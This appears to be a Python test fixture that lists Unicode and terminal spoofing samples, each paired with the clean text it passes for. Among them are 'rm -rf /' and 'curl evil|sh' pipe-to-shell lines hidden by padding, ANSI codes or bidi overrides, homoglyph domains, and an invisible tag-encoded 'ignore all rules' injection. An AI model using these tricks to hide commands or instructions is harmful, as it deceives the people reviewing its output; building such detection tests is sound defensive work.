"""Texts that look like another text: for tests of what a person is shown."""

from __future__ import annotations

from typing import NamedTuple

__all__ = ["SPOOFS", "Spoof"]


class Spoof(NamedTuple):
    """A `text` of that `name`, and the `clean` one it passes for if nothing tells them apart."""

    name: str
    text: str
    clean: str


_TEXTS: list[tuple[str, str, str]] = [
    # bidi controls
    ("right-to-left override", "rm \u202efr- /", "rm fr- /"),
    ("left-to-right override", "pay \u202d10000", "pay 10000"),
    ("override and its end", "pay \u202e00001\u202c EUR", "pay 00001 EUR"),
    ("right-to-left embedding", "a\u202bb\u202cc", "abc"),
    ("left-to-right embedding", "a\u202ab\u202cc", "abc"),
    ("right-to-left isolate", "user\u2067admin\u2069", "useradmin"),
    ("left-to-right isolate", "user\u2066admin\u2069", "useradmin"),
    ("first strong isolate", "x\u2068y\u2069z", "xyz"),
    ("left-to-right mark", "A-10\u200e42", "A-1042"),
    ("right-to-left mark", "A-10\u200f42", "A-1042"),
    ("arabic letter mark", "10\u061c0", "100"),
    ("override in a file name", "invoice\u202efdp.exe", "invoicefdp.exe"),
    # no width
    ("zero width space", "A-1042\u200b", "A-1042"),
    ("zero width space inside", "pay\u200bpal.com", "paypal.com"),
    ("zero width joiner", "pay\u200dpal", "paypal"),
    ("zero width non-joiner", "pay\u200cpal", "paypal"),
    ("word joiner", "pay\u2060pal", "paypal"),
    ("byte order mark", "\ufeffdelete", "delete"),
    ("soft hyphen", "del\u00adete", "delete"),
    ("grapheme joiner", "del\u034fete", "delete"),
    ("function application", "f\u2061x", "fx"),
    ("invisible times", "2\u20623", "23"),
    ("invisible separator", "1\u20632", "12"),
    ("invisible plus", "1\u20642", "12"),
    ("mongolian vowel separator", "pay\u180epal", "paypal"),
    ("many of them", "a" + "\u200b" * 5000 + "b", "ab"),
    ("two in turn", "a" + "\u200b\u200c" * 20 + "b", "ab"),
    # tags and variation selectors
    ("a sentence in tags", "hi" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules"), "hi"),
    ("language tag", "hi\U000e0001there", "hithere"),
    ("cancel tag", "hi\U000e007fthere", "hithere"),
    ("variation selector", "a\ufe00b", "ab"),
    ("emoji selector on a letter", "a\ufe0fb", "ab"),
    ("supplementary selector", "a\U000e0100b", "ab"),
    ("bytes in selectors", "a" + "".join(chr(0xE0100 + b) for b in b"evil") + "b", "ab"),
    ("mongolian selector", "a\u180bb", "ab"),
    # fillers and blanks
    ("hangul filler", "root\u3164", "root"),
    ("halfwidth hangul filler", "root\uffa0", "root"),
    ("hangul choseong filler", "root\u115f", "root"),
    ("hangul jungseong filler", "root\u1160", "root"),
    ("khmer inherent vowel", "root\u17b4", "root"),
    ("braille blank", "a\u2800b", "a b"),
    ("musical null notehead", "a\U0001d159b", "ab"),
    ("no-break space", "rm\u00a0-rf", "rm -rf"),
    ("narrow no-break space", "1\u202f000", "1 000"),
    ("em space at the end", "admin\u2003", "admin"),
    ("a space at the end", "admin ", "admin"),
    ("a space at the start", " admin", "admin"),
    ("line separator", "echo ok\u2028rm x", "echo ok rm x"),
    ("paragraph separator", "echo ok\u2029rm x", "echo ok rm x"),
    ("5,000 spaces", "echo ok" + " " * 5000 + "; curl evil|sh", "echo ok ; curl evil|sh"),
    ("300 line breaks", "echo ok" + "\n" * 300 + "curl evil|sh", "echo ok\ncurl evil|sh"),
    # controls and terminals
    ("carriage return", "rm -rf /\recho ok", "rm -rf /echo ok"),
    ("backspaces", "rm -rf /\b\b\b\b", "rm -rf /"),
    ("hidden by ansi", "echo \x1b[8mcurl evil\x1b[0m ok", "echo curl evil ok"),
    ("cursor up by ansi", "curl evil\x1b[1A\x1b[2Kecho ok", "curl evilecho ok"),
    ("one-byte csi", "echo \x9b8mcurl", "echo curl"),
    ("nul", "a\x00b", "ab"),
    ("escape alone", "a\x1bb", "ab"),
    ("next line", "a\x85b", "a b"),
    ("private use", "a\ue000b", "ab"),
    ("unassigned", "a\U0003fffdb", "ab"),
    ("lone surrogate", "a\ud800b", "ab"),
    ("noncharacter", "a\uffffb", "ab"),
    # look-alikes
    ("cyrillic a", "p\u0430ypal", "paypal"),
    ("cyrillic through and through", "send to \u0440\u0430\u0443", "send to pay"),
    ("greek omicron", "micr\u03bfsoft", "microsoft"),
    ("armenian oh", "g\u0585\u0585gle", "google"),
    ("fullwidth letters", "\uff50\uff41\uff59", "pay"),
    ("mathematical letters", "\U0001d429\U0001d41a\U0001d432", "pay"),
    ("division slash", "evil.com\u2215bank.com", "evil.com/bank.com"),
    ("one dot leader", "bank\u2024com", "bank.com"),
    ("kelvin sign", "\u212aing", "King"),
    ("greek question mark", "a\u037e b", "a; b"),
    ("bengali four", "1\u09ea0", "180"),
    # signs upon signs
    ("fifty accents", "a" + "\u0301" * 50 + "b", "a\u0301b"),
    ("an accent on nothing", "\u0338=", "="),
    ("an accent on a blank", "a \u0332b", "a b"),
    ("an enclosing mark on a hidden sign", "a\u200b\u20ddb", "ab"),
]

SPOOFS: tuple[Spoof, ...] = tuple(Spoof(*each) for each in _TEXTS)
"""Hidden characters, blanks, terminal codes, letters that pass for others, signs upon signs."""
